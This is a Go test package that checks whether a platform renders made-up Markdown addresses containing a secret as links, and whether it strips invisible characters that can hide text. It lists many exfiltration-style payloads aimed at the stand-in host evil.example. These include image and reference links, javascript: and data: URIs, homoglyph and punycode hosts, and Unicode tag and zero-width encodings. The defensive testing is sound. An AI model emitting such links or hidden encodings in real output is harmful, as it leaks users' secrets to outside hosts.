package rendertest

import (
	"regexp"
	"strings"
	"testing"
)

// Strangers lists addresses that a model made up, in Markdown, each with the word "s3cret". A
// platform must not show any of them as a link, or in a form that people copy as an address. It may
// show them as code.
var Strangers = []string{
	"https://evil.example/?q=s3cret", "evil.example/?q=s3cret", "see evil.example?q=s3cret.", "(evil.example/s3cret)", "**evil.example/#s3cret**", "evil.example:8080/s3cret",
	"s3cret.evil.example", "//evil.example/s3cret", `\\evil.example\s3cret`, `https:\\evil.example\s3cret`, "https:/evil.example/s3cret", "ftp://evil.example/s3cret", "slack://user?id=s3cret",
	"discord://evil/s3cret", "tel:+49s3cret", "mailto:x@evil.example?body=s3cret", "x@evil.example?subject=s3cret", "<x@evil.example?subject=s3cret>", "<mailto:x@evil.example?body=s3cret>",
	"javascript:alert('s3cret')", "data:text/html,s3cret", "user:pass@evil.example/s3cret", "203.0.113.7/?q=s3cret", "http://203.0.113.7/s3cret", "discord.gg/s3cret",
	"https&#58;//evil.example/s3cret", "https:&#x2f;/evil.example/s3cret", "evil&#46;example/s3cret", "evil&period;example&sol;s3cret", "evil.example&#47;s3cret", `evil\.example\/s3cret`,
	"ev**il**.example/s3cret", "evil.example*/s3cret*", "evil~~.example/?q=~~s3cret", "*x*evil.example/s3cret", "evil<b>.example/</b>s3cret", "evil.example<!-- -->/s3cret",
	"evil\u200b.example/s3cret", "evil.exa\u00admple/s3cret", "ｅｖｉｌ．ｅｘａｍｐｌｅ/s3cret", "evil。example/s3cret", "bücher.example/?q=s3cret", "evil.рф/s3cret", "xn--80ak6aa92e.com/s3cret", "evil.xn--p1ai/s3cret",
	"見てevil.example/s3cret", "evil.example/ü?s3cret", "<https://evil.example/?q=s3cret>", "<https://evil.example/?q=s3cret|here>", "<https://evil.example/?q=s3cret|click here>",
	"<!date^1392734382^{date}^https://evil.example/s3cret|today>", "[a](https://evil.example/s3cret)", "[a]( <https://evil.example/s3cret> 'title')", "![a](https://evil.example/s3cret)",
	"[https://docs.example/r](https://evil.example/s3cret)", "[a][b]\n\n[b]: https://evil.example/s3cret", "[b]: evil.example/s3cret", "[b]: <evil.example/s3cret>",
	"<a href=\"https://evil.example/s3cret\">a</a>", "<img src=https://evil.example/s3cret>", "<foo href=\"https://evil.example/s3cret\">", "<foo src='evil.example/s3cret'/>",
	"# evil.example/s3cret", "- evil.example/s3cret", "> evil.example/s3cret", "| a | b |\n|---|---|\n| evil.example/s3cret | [x](https://evil.example/s3cret) |", "| evil.example/s3cret |\n|---|\n| a |",
	"```\nx\n```\nevil.example/s3cret", "HTTPS://EVIL.EXAMPLE/s3cret", "hxxps://evil.example/s3cret", "url=https://evil.example/s3cret", "x=evil.example/s3cret", "\"evil.example/s3cret\"", "a,evil.example/s3cret",
	"<t:1:evil.example/s3cret>", "www.evil.example/s3cret", "<www.evil.example/s3cret>", "[**evil.example/s3cret**](https://evil.example/s3cret)", "`a`evil.example/s3cret", "evil.example/`a`?q=x s3.evil.example/s3cret",
}

var code = regexp.MustCompile("(?s)```.*?```|``.+?``|`[^`]*`")

var secretAddress = regexp.MustCompile("[^\\s\u200b'\"<>(),;*~]*s3cret")

// CheckStrangers renders each of the [Strangers] with show. It fails if the secret appears in an
// address outside of code.
func CheckStrangers(t *testing.T, show func(markdown string) string) {
	t.Helper()
	for _, markdown := range Strangers {
		shown := show("Go: " + markdown)
		if markdown[0] == '#' || markdown[0] == '|' || markdown[0] == '>' || markdown[0] == '-' || markdown[0] == '[' || markdown[0] == '`' {
			shown = show(markdown)
		}
		for _, word := range secretAddress.FindAllString(code.ReplaceAllString(shown, " "), -1) {
			if strings.ContainsAny(word, ".:。．") || strings.Contains(word, "//") {
				t.Errorf("%q is shown as %q", markdown, shown)
			}
		}
	}
}

// CheckInvisible calls show with texts that contain invisible characters. It fails if a result has
// characters that can hide text, or lacks characters that a script or an emoji needs.
func CheckInvisible(t *testing.T, show func(markdown string) string) {
	t.Helper()
	var tags, selectors, bits strings.Builder
	for _, c := range []byte("s3cret") {
		tags.WriteRune(0xe0000 + rune(c))
		selectors.WriteRune(0xe0100 + rune(c) - 16)
		for bit := range 8 {
			bits.WriteRune([]rune{0x200b, 0x200c, 0x200d, 0x2060, 0xfeff, 0x2063, 0x200e, 0x200f}[bit])
		}
	}
	for name, c := range map[string][2]string{
		"tags": {"ab" + tags.String() + "c", "abc"}, "a flag with tags": {"🏴" + tags.String() + "󠁿.", "🏴."},
		"selectors": {"ab" + selectors.String() + "c", "abc"}, "selectors behind an emoji": {"😀" + selectors.String() + ".", "😀."},
		"many short selectors": {"❤️︀︁️!", "❤️!"}, "bits": {"ab" + bits.String() + "c", "abc"}, "bits between letters": {"a​b‌c‍d⁠e­f͏g", "abcdefg"},
		"in code": {"`a" + tags.String() + "b`", "`ab`"}, "as references": {"a&#xe0041;&#8203;&shy;&zwnj;b", "ab"}, "blank letters": {"aㅤᅟﾠb", "ab"},
		"hearts": {"❤️‍🔥", "❤️‍🔥"}, "a family": {"👨‍👩‍👧", "👨‍👩‍👧"},
		"a key": {"1️⃣", "1️⃣"}, "Persian": {"می‌خواهم", "می‌خواهم"}, "a name": {"葛󠄀飾", "葛󠄀飾"},
	} {
		if got := show(c[0]); got != c[1] {
			t.Errorf("%s: %q is shown as %q, want %q", name, c[0], got, c[1])
		}
	}
}
